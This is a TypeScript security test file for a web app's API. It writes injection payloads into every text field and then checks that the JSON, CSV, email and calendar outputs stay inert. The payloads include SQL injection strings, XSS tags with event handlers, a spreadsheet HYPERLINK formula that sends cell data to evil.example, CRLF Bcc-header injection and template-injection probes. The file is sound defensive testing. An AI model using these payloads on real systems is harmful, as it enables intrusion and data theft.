/**
 * Gives every text field of every endpoint code in some language. Then every role reads everything it may, as JSON,
 * tables, calendar and email. Nothing may have been executed, and nothing may be written so that a browser, a
 * spreadsheet, an email or calendar program would execute it.
 */
import * as fc from 'fast-check'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { type Endpoint, nothing } from '#contracts/wire/endpoint.ts'
import { hasInvisibleCharacters } from '#contracts/wire/person-name.ts'
import { ensurePlatformPin } from '#server/features/assignments/platform-pin.ts'
import { createPerson, type SignedInPerson } from '../support/factories.ts'
import { openTestServer, signTokenFor, type TestServer } from '../support/test-server.ts'
import { attackers, expectations } from './expectations.ts'
import { makeAttackRequest } from './requests.ts'
import { listRowsWith } from './rows-with.ts'
import { type AttackedTarget, createTarget, mark } from './target.ts'

/** Part of every payload. */
const trace = 'Qx7'
/** What becomes of a payload that was executed. */
const done = /Qx7(executed|1337)/
const payloads = [
  ['SQL that ends a string', `${trace}'||(select 'ex'||'ecuted')||'`],
  ['SQL that ends a statement', `${trace}'; create table executed (a int); --`],
  ['SQL in dollars', `${trace}$$; create table executed (a int); $$`],
  [
    'HTML with handlers',
    `<img src=x onerror=alert('${trace}')><svg onload=alert(1)><a href="javascript:alert(1)">${trace}</a>`,
  ],
  ['HTML with a script', `${trace}"><script>alert(1)</script><iframe srcdoc="<script>alert(1)</script>">`],
  ['a formula', `=HYPERLINK("https://evil.example/?"&A1,"${trace}")`],
  ['lines of a calendar or an email', `${trace}\r\nBcc: spy@example.com\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nX-EXECUTED:1`],
  [
    'a template',
    ['{{constructor.constructor("return 7*191")()}}', '<%= 7*191 %>', '#{7*191}', '$\u007b7*191}']
      .map((one) => trace + one)
      .join(''),
  ],
] as const

let server: TestServer
let admin: SignedInPerson

beforeAll(async () => {
  server = await openTestServer('2026-03-01T10:00:00Z', { AUTH_EVEN_ANSWER_MS: '0', AUTH_MAIL_GAP_SECONDS: '0' })
  await ensurePlatformPin(server.services)
  admin = await createPerson(server.db, 'admin')
})
afterAll(() => server[Symbol.asyncDispose]())

type Place = readonly (string | number)[]

/** Names of what has to exist already: no free text. */
const references = ['topic']

/** Where a text is, or null if there could be one. */
function textPlaces(value: unknown, at: Place = []): Place[] {
  if (references.includes(String(at.at(-1)))) return []
  if (typeof value === 'string' || value === null) return [at]
  if (typeof value !== 'object') return []
  return Object.entries(value).flatMap(([name, inside]) => textPlaces(inside, [...at, name]))
}

function withText(value: unknown, [name, ...rest]: Place, text: string): unknown {
  if (name === undefined) return text
  if (Array.isArray(value)) return value.map((one, at) => (at === Number(name) ? withText(one, rest, text) : one))
  return { ...Object(value), [name]: withText(Object(value)[name], rest, text) }
}

/** The body with the payload in each field that takes it, and how many those are. */
function injected(endpoint: Endpoint, body: unknown, payload: string): { body: unknown; fields: number } {
  let result = body
  let fields = 0
  for (const place of textPlaces(body)) {
    const tried = withText(result, place, payload)
    if (!endpoint.body.safeParse(tried).success) continue
    result = tried
    fields += 1
  }
  return { body: result, fields }
}

const nameOf = ({ method, path }: Endpoint) => `${method} ${path}`

/** One of the roles that the table lets in. */
function welcomeAt(endpoint: Endpoint, target: AttackedTarget): SignedInPerson | undefined {
  const people: Readonly<Record<string, SignedInPerson>> = { ...readers(target) }
  const statuses = expectations.get(nameOf(endpoint)) ?? []
  return attackers.flatMap((one, at) => (statuses[at] === 200 ? (people[one] ?? []) : []))[0]
}

function readers({ maya, parent, tutor }: AttackedTarget) {
  return { maya, parent, tutor, admin }
}

async function ask(path: string, init: RequestInit, person: SignedInPerson) {
  const bearer = `Bearer ${await signTokenFor(server.db, server.clock, person)}`
  const headers = { 'Content-Type': 'application/json', Authorization: bearer }
  const response = await server.fetch(path, { ...init, headers })
  return { status: response.status, type: response.headers.get('content-type') ?? '', text: await response.text() }
}

/** Bodies that leave test and family findable for what comes after them. */
function harmless({ test: { slug }, parent }: AttackedTarget): Readonly<Record<string, unknown>> {
  const parents = { parentIds: [parent.userId], knownIds: [parent.userId] }
  const details = { title: 'A test', slug, description: '', duration: 30, status: 'active' }
  return {
    'PUT /admin/tests/{testRef}': { ...details, showAnswers: 'after_submission', revision: 1 },
    'PUT /admin/students/{studentId}/parents': parents,
  }
}

/** Writes the payload wherever it is taken; how many fields took it. */
async function writeEverywhere(target: AttackedTarget, payload: string): Promise<number> {
  let fields = 0
  for (const { endpoint } of server.app.served) {
    const person = welcomeAt(endpoint, target)
    if (endpoint.body === nothing || !person) continue
    const { path, init } = makeAttackRequest(endpoint, target, harmless(target))
    const sent = injected(endpoint, JSON.parse(String(init.body)), payload)
    if (sent.fields === 0) continue
    const answer = await ask(path, { ...init, body: JSON.stringify(sent.body) }, person)
    expect(answer.status, `${nameOf(endpoint)}: ${answer.text}`).toBeLessThan(500)
    checkAnswer(nameOf(endpoint), answer)
    if (answer.status === 200) fields += sent.fields
  }
  return fields
}

function checkAnswer(name: string, { type, text }: { type: string; text: string }) {
  expect(text, name).not.toMatch(done)
  if (type.startsWith('application/json')) for (const html of htmlIn(JSON.parse(text))) expectHarmless(name, html)
  else if (type.startsWith('text/csv')) expectNoFormula(name, text)
  else expect(text, `${name} is ${type}`).not.toContain(trace)
}

/** Values that a page takes as HTML, by their names. */
function htmlIn(value: unknown, name = ''): string[] {
  if (typeof value === 'string') return /html$|^explanation$/i.test(name) ? [value] : []
  if (typeof value !== 'object' || value === null) return []
  return Object.entries(value).flatMap(([inside, one]) => htmlIn(one, Array.isArray(value) ? name : inside))
}

/** How many answers had the trace in them as HTML and in a table: without any there would be nothing to see. */
const seen = { html: 0, csv: 0 }

function expectHarmless(name: string, html: string) {
  if (html.includes(trace)) seen.html += 1
  expect(html, name).not.toMatch(/<\s*\/?(script|iframe|svg|img|a|object|embed|style|form)\b/i)
  expect(html, name).not.toMatch(/<[^>]*\s(on\w+|srcdoc)\s*=/i)
}

function expectNoFormula(name: string, csv: string) {
  if (csv.includes(trace)) seen.csv += 1
  const cells = csv.split(/\r\n|,(?=(?:[^"]*"[^"]*")*[^"]*$)/)
  for (const cell of cells) expect(cell, name).not.toMatch(/^"?[=+@\t]/)
}

async function readEverything(target: AttackedTarget): Promise<string> {
  let all = ''
  for (const { endpoint } of server.app.served) {
    if (endpoint.method !== 'GET') continue
    for (const person of Object.values(readers(target))) {
      const { path, init } = makeAttackRequest(endpoint, target)
      const answer = await ask(path, init, person)
      expect(answer.status, `${nameOf(endpoint)}: ${answer.text}`).toBeLessThan(500)
      checkAnswer(nameOf(endpoint), answer)
      all += answer.text
    }
  }
  return all
}

describe.each(payloads)('%s', (_, payload) => {
  let target: AttackedTarget
  let fields: number

  beforeAll(async () => {
    target = await createTarget(server)
    fields = await writeEverywhere(target, payload)
  }, 120_000)

  test('is taken as text by many fields, and shown to everybody as text alone', { timeout: 120_000 }, async () => {
    expect(fields).toBeGreaterThan(25)
    Object.assign(seen, { html: 0, csv: 0 })
    expect(await readEverything(target)).toContain(trace)
    expect(seen.html).toBeGreaterThan(0)
    // What the CSV files show of it are names, which take no line breaks.
    if (!hasInvisibleCharacters(payload)) expect(seen.csv).toBeGreaterThan(0)
  })

  test('is executed nowhere in the database', async () => {
    const { rows } = await server.db.pool.query(`select to_regclass('executed') as made`)
    expect(rows).toEqual([{ made: null }])
    expect([
      ...(await listRowsWith(server.db, `${trace}executed`)),
      ...(await listRowsWith(server.db, `${trace}1337`)),
    ]).toEqual([])
  })

  test('is no tag and no header in an email', async () => {
    const { rows } = await server.db.pool.query('select recipient, subject, text, html from public.outbox_messages')
    expect(rows.filter(({ text }) => text.includes(trace)).length).toBeGreaterThan(0)
    for (const { recipient, subject, html } of rows) {
      expect(`${recipient}${subject}`).not.toMatch(/[\r\n]/)
      // Our mark is the one picture.
      const others = (html ?? '').replace(/<img src="[^"]*\/mark\.png" height="32" alt="" style="[^"]*">/, '')
      expect(others).not.toMatch(/<(script|img|svg|iframe)\b|<[^>]*\son\w+=|href="(?!https?:)/i)
    }
  })

  test('stays inside its line of a calendar', async () => {
    const { url } = await (await server.post(target.tutor, '/schedule/feed')).json()
    const calendar = await (await server.fetch(new URL(url).pathname)).text()
    expect(calendar).toContain(trace)
    expect(calendar.split('\r\n').filter((line) => /^(X-EXECUTED|Bcc)/i.test(line))).toEqual([])
    expect(calendar).not.toMatch(/[^\r]\n/)
  })
})

test('search words, sort orders and filters are never SQL', { timeout: 120_000 }, async () => {
  const target = await createTarget(server)
  const code = fc.constantFrom(
    "' or 'a'='a",
    `%' or true or '' like '`,
    "') or 1=1 --",
    '\\',
    "x' union select null --",
  )
  for (const { endpoint } of server.app.served.filter(({ endpoint: { method } }) => method === 'GET')) {
    const person = welcomeAt(endpoint, target)
    const open = Object.keys(Object(Reflect.get(endpoint.params, 'shape')))
    const names = open.filter((name) => !endpoint.path.includes(`{${name}}`))
    if (!person || names.length === 0) continue
    for (const payload of fc.sample(code, { numRuns: 5, seed: 1 })) {
      const search = names.map((name) => `${name}=${encodeURIComponent(payload)}`).join('&')
      const path = makeAttackRequest(endpoint, target).path.replace(/\?.*/, '')
      const one = await ask(`${path}?search=${encodeURIComponent(payload)}`, {}, person)
      const all = await ask(`${path}?${search}`, {}, person)
      for (const { status, text } of [one, all]) {
        expect(status, `${path} ${payload}: ${text}`).toBeLessThan(500)
      }
      if (names.includes('search') && one.status === 200) expect(one.text, `${path} ${payload}`).not.toContain(mark)
    }
  }
})
